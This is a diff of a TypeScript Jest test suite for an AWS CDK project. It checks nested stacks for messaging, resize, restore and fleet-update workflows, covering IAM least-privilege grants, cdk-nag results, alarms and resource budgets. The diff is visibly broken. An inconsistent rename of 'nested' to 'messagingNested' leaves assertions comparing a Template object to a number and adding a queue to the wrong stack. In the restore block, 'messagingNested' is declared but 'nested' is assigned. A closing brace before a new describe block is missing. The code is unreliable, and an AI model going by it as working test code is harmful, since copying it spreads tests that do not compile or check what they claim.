   it('holds the messaging table: pay per request, PITR, encrypted, retained, streaming new images, four conversation indexes', () => {
-    nested.hasResource('AWS::DynamoDB::Table', {
+    messagingNested.hasResource('AWS::DynamoDB::Table', {
       DeletionPolicy: 'Retain',
       Properties: Match.objectLike({
         BillingMode: 'PAY_PER_REQUEST',
@@ -1839,7 +1947,7 @@ describe('the messaging nested stack', () => {
     for (const route of messagingRoutes) {
       const fn = routeFunction(route.id);
       expect(Stack.of(fn)).toBe(stack.messaging);
-      nested.hasResourceProperties('AWS::Lambda::Function', { Runtime: 'nodejs24.x', Architectures: ['arm64'], TracingConfig: { Mode: 'Active' }, Description: `${route.method} ${route.path}` });
+      messagingNested.hasResourceProperties('AWS::Lambda::Function', { Runtime: 'nodejs24.x', Architectures: ['arm64'], TracingConfig: { Mode: 'Active' }, Description: `${route.method} ${route.path}` });
     }
     const methods = Object.values(template.findResources('AWS::ApiGateway::Method', { Properties: { OperationName: Match.anyValue() } })) as { Properties: { OperationName: string; AuthorizationType: string } }[];
     for (const route of messagingRoutes) {
@@ -1849,7 +1957,7 @@ describe('the messaging nested stack', () => {
 
   it('grants each route exactly its access: reads never Scan, only the send route may send, from the account\'s numbers', () => {
     for (const route of messagingRoutes) {
-      const statements = statementsOfRoleIn(nested, logicalId(routeFunction(route.id).role!));
+      const statements = statementsOfRoleIn(messagingNested, logicalId(routeFunction(route.id).role!));
       const actions = statements.flatMap((statement) => [statement.Action].flat());
       expect(actions).not.toContain('dynamodb:Scan');
       expect(actions.includes('sms-voice:SendTextMessage')).toBe(route.access.includes('messaging:send'));
@@ -1859,20 +1967,204 @@ describe('the messaging nested stack', () => {
   });
 
   it('subscribes one inbound function to each encrypted, SSL-only topic End User Messaging may publish to', () => {
-    nested.resourceCountIs('AWS::SNS::Topic', 2);
-    nested.allResourcesProperties('AWS::SNS::Topic', { KmsMasterKeyId: Match.anyValue() });
-    nested.resourceCountIs('AWS::SNS::Subscription', 2);
-    nested.hasResourceProperties('AWS::SNS::TopicPolicy', {
+    messagingNested.resourceCountIs('AWS::SNS::Topic', 2);
+    messagingNested.allResourcesProperties('AWS::SNS::Topic', { KmsMasterKeyId: Match.anyValue() });
+    messagingNested.resourceCountIs('AWS::SNS::Subscription', 2);
+    messagingNested.hasResourceProperties('AWS::SNS::TopicPolicy', {
       PolicyDocument: { Statement: Match.arrayWith([Match.objectLike({ Action: 'sns:Publish', Principal: { Service: 'sms-voice.amazonaws.com' } })]) },
     });
-    nested.hasResourceProperties('AWS::SNS::TopicPolicy', {
+    messagingNested.hasResourceProperties('AWS::SNS::TopicPolicy', {
       PolicyDocument: { Statement: Match.arrayWith([Match.objectLike({ Action: 'sns:Publish', Principal: { Service: 'social-messaging.amazonaws.com' } })]) },
     });
-    nested.hasResourceProperties('AWS::KMS::Key', { EnableKeyRotation: true });
+    messagingNested.hasResourceProperties('AWS::KMS::Key', { EnableKeyRotation: true });
   });
 
   it('keeps the main stack within its resource budget', () => {
     expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(470);
-    expect(Object.keys(nested.toJSON().Resources).length).toBeLessThan(200);
+    expect(Object.keys(messagingNested.toJSON().Resources).length).toBeLessThan(200);
+describe('ResizeWorkflow nested stack', () => {
+  it('keeps the main stack within its budget: the resize adds one resource there (the nested stack) and its own template holds the rest', () => {
+    const main = Object.keys(template.toJSON().Resources).length;
+    const nested = Object.keys(nestedTemplate.toJSON().Resources).length;
+    expect(main).toBeLessThanOrEqual(490);
+    expect(Object.keys(template.findResources('AWS::CloudFormation::Stack')).filter((id) => id.startsWith('ResizeWorkflowNestedStack'))).toHaveLength(1);
+    // Per own step: function, role (grants inline), log group; plus the state machine, its role, the role's policy and log group, and two alarms.
+    expect(messagingNested).toBe(3 * RESIZE_ONLY_STEPS.length + 4 + 2);
+  });
+
+  it('is checked by cdk-nag like the main stack: no unacknowledged finding, and no CDK error or warning', () => {
+    const report = nagChecks.validateScope(stack.resize);
+    expect(report.violations.map((violation) => `${violation.ruleName}: ${violation.violatingResources.map((r) => r.constructPath).join(', ')}`)).toEqual([]);
+    expect(report.success).toBe(true);
+    // A nested stack is no cloud assembly artifact (Annotations.fromStack cannot read it): its constructs' own metadata.
+    const annotations = stack.resize.node.findAll().flatMap((construct) => construct.node.metadata.filter((entry) => ['aws:cdk:error', 'aws:cdk:warning'].includes(entry.type)));
+    expect(annotations).toEqual([]);
+  });
+
+  it('cdk-nag does reach into a nested stack (a finding there fails the checks)', () => {
+    const probe = new App();
+    const parent = new Stack(probe, 'Parent');
+    const nested = new NestedStack(parent, 'Nested');
+    new sqs.Queue(messagingNested, 'Unencrypted', { encryption: sqs.QueueEncryption.UNENCRYPTED });
+    const report = applyNagChecks(probe).validateScope(probe);
+    expect(report.violations.flatMap((violation) => violation.violatingResources.map((r) => r.constructPath)).some((path) => path?.startsWith('Parent/Nested/'))).toBe(true);
+  });
+
+  it('reuses provisioning\'s Point subdomain (no copy) and creates only the resize\'s own steps', () => {
+    expect(stack.resize.stepFunctions.PointSubdomainFunctionArn).toBe(stack.provisioning.stepFunctions.PointSubdomainFunctionArn);
+    const own = Object.values(stack.resize.stepFunctions).filter((fn) => Stack.of(fn) === stack.resize);
+    expect(own.map((fn) => fn.node.id).sort()).toEqual(RESIZE_ONLY_STEPS.map((step) => step.id).sort());
+  });
+
+  it('alarms on failed and timed-out resizes, on the operators\' topic (passed in from the main stack)', () => {
+    for (const metricName of ['ExecutionsFailed', 'ExecutionsTimedOut']) {
+      nestedTemplate.hasResourceProperties('AWS::CloudWatch::Alarm', {
+        Namespace: 'AWS/States',
+        MetricName: metricName,
+        Dimensions: [{ Name: 'StateMachineArn', Value: { Ref: logicalId(stack.resize.stateMachine) } }],
+        AlarmActions: [{ Ref: `referenceto${importedName(stack.alarmTopic.topic)}Ref` }],
+      });
+    }
+  });
+
+  it('ChangePlan and AdminChangePlan may start only the resize (no lifecycle workflow, no provisioning)', () => {
+    for (const routeId of ['ChangePlan', 'AdminChangePlan']) {
+      const statements = statementsOfRole(logicalId(routeFunction(routeId).role!));
+      const starts = statements.filter((statement) => [statement.Action].flat().includes('states:StartExecution'));
+      const resources = starts.flatMap((statement) => [statement.Resource].flat());
+      expect(resources).toHaveLength(1);
+      expect(isResizeArn(resources[0])).toBe(true);
+      const environment = environmentOf(routeFunction(routeId));
+      expect(isResizeArn(environment.RESIZE_STATE_MACHINE_ARN)).toBe(true);
+      expect(Object.keys(environment).filter((name) => /STATE_MACHINE_ARN$/.test(name))).toEqual(['RESIZE_STATE_MACHINE_ARN']);
+      expect(JSON.parse(environment.STRIPE_PRICE_IDS as string)).toEqual(cdkJson.context['stackpro:stripePriceIds']);
+    }
+    const resizeStarters = grantsOf('states:StartExecution').filter(({ statement }) => [statement.Resource].flat().some(isResizeArn)).map(({ role }) => role);
+    expect(resizeStarters.sort()).toEqual(
+      [...ROUTES.filter((route) => route.access.includes('resize:start')).map((route) => logicalId(routeFunction(route.id).role!)), recoveryRole()].sort(),
+    );
+  });
+
+  it('puts the previous price back with the Stripe keys and the plan prices, and nothing else of billing', () => {
+    const environment = environmentOf(stack.resize.stepFunctions.PutBackPreviousPriceFunctionArn!);
+    expect(JSON.parse(environment.STRIPE_PRICE_IDS as string)).toEqual(cdkJson.context['stackpro:stripePriceIds']);
+    expect(environment.STRIPE_SECRET_ID).toEqual({ Ref: `referenceto${importedName(stack.stripeKeys.secret)}Ref` });
+  });
+});
+
+describe('RestoreWorkflow nested stack', () => {
+  let messagingNested: Template;
+  const nestedId = (construct: IConstruct) => stack.restoreWorkflow.resolve((construct.node.defaultChild as CfnElement).logicalId) as string;
+  const statementsOf = (stepId: string) => {
+    const fn = Object.values(stack.restoreWorkflow.stepFunctions).find((candidate) => candidate.node.id === stepId)!;
+    return statementsOfRoleIn(messagingNested, nestedId(fn.role!));
+  };
+  const withAction = (statements: Statement[], action: string) => statements.filter((statement) => [statement.Action].flat().includes(action));
+
+  beforeAll(() => {
+    nested = Template.fromStack(stack.restoreWorkflow);
+  });
+
+  it('holds the RestoreCustomer state machine from its ASL file; steps other workflows have are their functions, passed in', () => {
+    const machines = messagingNested.findResources('AWS::StepFunctions::StateMachine');
+    expect(Object.keys(machines)).toHaveLength(1);
+    const properties = (Object.values(machines)[0] as Resource).Properties;
+    expect(properties.DefinitionString).toBe(readDefinition(RESTORE_CUSTOMER));
+    // Only the restore's own steps are new functions; the main stack's count is unchanged by them.
+    const own = Object.values(RESTORE_CUSTOMER.steps).filter((step) => step.handler.startsWith('restore/'));
+    messagingNested.resourceCountIs('AWS::Lambda::Function', own.length);
+    expect(Object.keys(properties.DefinitionSubstitutions as object).sort()).toEqual(Object.keys(RESTORE_CUSTOMER.steps).sort());
+  });
+
+  it('Start restore job may start restore jobs into the vault and pass only the backup role, only to AWS Backup', () => {
+    const statements = statementsOf('StartRestoreJob');
+    expect(text(withAction(statements, 'backup:StartRestoreJob'))).toContain('CustomerBackupsVault');
+    const passRole = withAction(statements, 'iam:PassRole');
+    expect(passRole).toHaveLength(1);
+    expect(passRole[0]!.Condition).toEqual({ StringEquals: { 'iam:PassedToService': 'backup.amazonaws.com' } });
+    expect(text(passRole[0]!.Resource)).toContain('BackupRole');
+    expect(withAction(statements, 'ec2:AttachVolume')).toEqual([]);
+  });
+
+  it.each([
+    ['DetachVolume', 'ec2:DetachVolume'],
+    ['AttachVolume', 'ec2:AttachVolume'],
+    ['AttachVolume', 'ec2:ModifyInstanceAttribute'],
+    ['DeleteVolume', 'ec2:DeleteVolume'],
+  ])('%s acts only on volumes and instances tagged ManagedBy=stackpro', (stepId, action) => {
+    const grants = withAction(statementsOf(stepId), action);
+    expect(grants.length).toBeGreaterThan(0);
+    for (const grant of grants) expect(grant.Condition).toEqual({ StringEquals: { 'aws:ResourceTag/ManagedBy': 'stackpro' } });
+    // Deleting is the delete step's alone.
+    if (stepId !== 'DeleteVolume') expect(withAction(statementsOf(stepId), 'ec2:DeleteVolume')).toEqual([]);
+  });
+
+  it('AWS Backup may create restored volumes only tagged ManagedBy=stackpro, and tag them only while creating them', () => {
+    const backupRole = logicalId(stack.customerBackups.backupRole);
+    const statements = statementsOfRole(backupRole);
+    const create = withAction(statements, 'ec2:CreateVolume').find((statement) => text(statement.Resource).includes(':volume/'));
+    expect(create?.Condition).toEqual({ StringEquals: { 'aws:RequestTag/ManagedBy': 'stackpro' } });
+    const tag = withAction(statements, 'ec2:CreateTags').find((statement) => text(statement.Resource).includes(':volume/'));
+    expect(tag?.Condition).toEqual({ StringEquals: { 'ec2:CreateAction': 'CreateVolume' } });
+  });
+
+  it('only the restore route and the stopped-execution handler may start it; OperationsMonitoring watches it', () => {
+    const starters = grantsOf('states:StartExecution').filter(({ statement }) => text(statement.Resource).includes('RestoreCustomerStateMachine'));
+    expect(starters.map(({ role }) => role).sort()).toEqual([logicalId(routeFunction('AdminRestoreCustomer').role!), recoveryRole()].sort());
+    expect(environmentOf(routeFunction('AdminRestoreCustomer'))).toHaveProperty('RESTORE_STATE_MACHINE_ARN');
+    expect(stack.operationsMonitoring.alarms).toHaveProperty('RestoreCustomerExecutionsFailedAlarm');
+    expect(stack.operationsMonitoring.alarms).toHaveProperty('RestoreCustomerExecutionsTimedOutAlarm');
+  });
+});
+
+// The FleetUpdate workflow's nested stack (lib/fleet-update-stack.ts), from this file's one synth (cdk-nag ran on it too).
+let fleetTemplate: Template | undefined;
+const nested = () => (fleetTemplate ??= Template.fromStack(stack.fleetUpdate));
+
+const fleetActionsOf = (statements: Statement[]) => statements.flatMap((statement) => [statement.Action].flat());
+/** Every statement of a step function's role, in the nested stack's template. */
+const fleetStepRole = (stepId: string) => {
+  const fn = Object.values(stack.fleetUpdate.stepFunctions).find((candidate) => candidate.node.id === stepId)!;
+  return statementsOfRoleIn(nested(), stack.fleetUpdate.resolve((fn.role!.node.defaultChild as CfnElement).logicalId) as string);
+};
+
+describe('FleetUpdateStack', () => {
+  it('holds the state machine and one function per step, outside the main stack (which stays under 490 resources)', () => {
+    nested().resourceCountIs('AWS::StepFunctions::StateMachine', 1);
+    nested().resourceCountIs('AWS::Lambda::Function', Object.keys(FLEET_UPDATE.steps).length);
+    expect(Object.keys(template.findResources('AWS::CloudFormation::Stack')).filter((id) => id.startsWith('FleetUpdateNestedStack'))).toHaveLength(1);
+    expect(Object.keys(template.toJSON().Resources).length).toBeLessThanOrEqual(490);
+    expect(JSON.stringify(nested().toJSON())).toContain('MaxConcurrencyPath');
+  });
+
+  it('sends Run Command only with the deploy document, only on instances tagged ManagedBy=stackpro, and only from the two steps that need it', () => {
+    for (const stepId of ['StartCustomerUpdate', 'RollBackCustomerUpdate']) {
+      const sends = fleetStepRole(stepId).filter((statement) => fleetActionsOf([statement]).includes('ssm:SendCommand'));
+      expect(sends).toHaveLength(2);
+      const [document, instances] = [sends.find((statement) => JSON.stringify(statement.Resource).includes(':document/')), sends.find((statement) => JSON.stringify(statement.Resource).includes(':instance/'))];
+      expect(JSON.stringify(document?.Resource)).toContain('document/StackPro-DeployApplications');
+      expect(document?.Condition).toBeUndefined();
+      expect(instances?.Condition).toEqual({ StringEquals: { 'ssm:resourceTag/ManagedBy': 'stackpro' } });
+    }
+    for (const stepId of ['SelectFleetTargets', 'CheckAppUpdate', 'FinishCustomerUpdate', 'FinishFleetUpdate']) {
+      expect(fleetActionsOf(fleetStepRole(stepId))).not.toContain('ssm:SendCommand');
+    }
+  });
+
+  it('selects customers by a Query of the CustomersByStatus index; no step may Scan', () => {
+    const select = fleetStepRole('SelectFleetTargets');
+    const query = select.find((statement) => JSON.stringify(statement.Resource).includes('/index/CustomersByStatus'));
+    expect(fleetActionsOf([query!])).toEqual(['dynamodb:Query']);
+    for (const stepId of Object.values(FLEET_UPDATE.steps).map((step) => step.id)) expect(fleetActionsOf(fleetStepRole(stepId))).not.toContain('dynamodb:Scan');
+  });
+
+  it('lets the start route start this state machine only, and watches its failed and timed-out executions', () => {
+    const route = stack.accountApi.routeFunctions.StartFleetUpdate!;
+    const statements = statementsOfRoleIn(template, stack.resolve((route.role!.node.defaultChild as CfnElement).logicalId) as string);
+    const starts = statements.filter((statement) => fleetActionsOf([statement]).includes('states:StartExecution'));
+    expect(starts).toHaveLength(1);
+    expect(JSON.stringify(starts[0]!.Resource)).toContain('FleetUpdate');
+    expect(stack.operationsMonitoring.alarms.FleetUpdateExecutionsFailedAlarm).toBeDefined();
+    expect(stack.operationsMonitoring.alarms.FleetUpdateExecutionsTimedOutAlarm).toBeDefined();
   });
 });
